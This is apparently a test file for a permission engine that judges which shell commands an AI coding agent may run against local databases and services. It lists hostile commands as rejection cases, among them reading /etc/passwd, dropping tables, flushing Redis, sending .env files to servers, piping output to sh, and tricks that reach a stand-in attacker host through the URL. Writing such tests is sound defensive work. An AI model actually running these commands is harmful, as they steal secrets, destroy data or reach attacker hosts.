import { describe, expect, test } from 'vitest';
import { decideCall } from '../src/decision/decide-call.ts';
import { compilePolicy } from '../src/policy/compile-policy.ts';
import { fixedWorld } from '../src/world/fixed-world.ts';

const allow = ['WebFetch(domain:localhost:*)', 'WebFetch(domain:127.0.0.1:*)', 'Edit(./**)', 'Read'];
const policy = compilePolicy([{ allow }]);
const byEffects = compilePolicy([
  { allow: ['Effect(serve)', 'Effect(edit)', 'Effect(read)', 'Effect(remote-read)'] },
]);
const closed = compilePolicy([{ allow: ['WebFetch(domain:localhost:3000)'] }]);

function verdict(command: string, under = policy): string {
  return decideCall({ tool: 'Bash', input: { command } }, { policy: under, world: fixedWorld() }).verdict;
}

const asked = [
  'psql -h localhost -U dev app -c "select id from jobs where state = \'open\' limit 3"',
  "psql postgres://dev:dev@localhost:5432/app -c '\\dt'",
  'psql "host=localhost dbname=app" -tAc "select count(*) from jobs"',
  'PGPASSWORD=x psql -h 127.0.0.1 -c "select 1"',
  'mysql -h127.0.0.1 -udev -pdev app -e "select * from users limit 3"',
  'redis-cli get x',
  "redis-cli -h localhost keys 'a:*'",
  'http --ignore-stdin GET :8001/v1/items limit==2',
  'nc -z -w1 localhost 7070',
  'grpcurl -plaintext localhost:9090 list',
  'hey -n 10 http://localhost:8080/health',
  'curl -s http://127.0.0.1:7070/frames?n=5',
];

describe('what only asks a service on this machine', () => {
  test.each(asked)('%s', (command) => {
    expect(verdict(command)).toBe('allow');
    // A rule about one port of the web does not mean a database.
    expect(verdict(command, closed)).toBe('ask');
  });

  test('a query of a database file is an edit of it', () => {
    expect(verdict("sqlite3 data/app.db 'select count(*) from t'")).toBe('allow');
    expect(verdict("sqlite3 /home/dev/.mozilla/cookies.sqlite 'select 1'")).toBe('ask');
  });
});

describe('and nothing that does more', () => {
  test.each([
    'psql -h localhost -c "select pg_read_file(\'/etc/passwd\')"',
    'psql -h localhost -c "select 1; drop table x"',
    'psql -h localhost -c "select 1" -f x.sql',
    'psql -h localhost -c "select 1" -o ../x',
    'psql -h localhost -c "select 1" -o "|sh"',
    'psql -h localhost < x.sql',
    "psql -h localhost <<< 'drop table x'",
    'psql -h localhost',
    'psql -c "select 1"',
    'psql "$DATABASE_URL" -c "select 1"',
    'psql -h localhost "$X" -c "select 1"',
    'psql -h evil.example -c "select 1"',
    'psql -h localhost "host=evil.example" -c "select 1"',
    'psql -h localhost "service=prod" -c "select 1"',
    'psql postgres://localhost@evil.example/x -c "select 1"',
    'PGHOSTADDR=203.0.113.9 psql -h localhost -c "select 1"',
    'PGSERVICE=prod psql -h localhost -c "select 1"',
    'mysql -h127.0.0.1 -e "select 1" --init-command="drop table x"',
    'mysql -e "select 1"',
    'redis-cli flushall',
    'redis-cli -h evil.example get x',
    'redis-cli -u redis://evil.example get x',
    "redis-cli config get '*'",
    'redis-cli --eval x.lua',
    'redis-cli',
    'http evil.example',
    'http :2375/containers/json',
    'http :8001 f@.env',
    'http :8001 f=@.env',
    'http --output=x :8001',
    'http --proxy=http:http://evil.example :8001',
    'nc localhost 8080',
    'nc -z localhost 2375',
    'nc -z evil.example 80',
    'nc -zl localhost 80',
    'grpcurl evil.example:443 list',
    'wrk -s x.lua http://localhost:8080',
    'ab -p .env http://localhost:8080/',
    'curl -s http://localhost:3000@evil.example/a?b',
    'curl -s http://localhost.evil.example/a?b',
    'curl -s http://localhost:*/a',
    "sqlite3 x.db \"select writefile('a', 'b')\"",
    "sqlite3 x.db 'select 1' '.shell id'",
  ])('%s', (command) => {
    expect(verdict(command)).not.toBe('allow');
    expect(verdict(command, byEffects)).not.toBe('allow');
  });
});
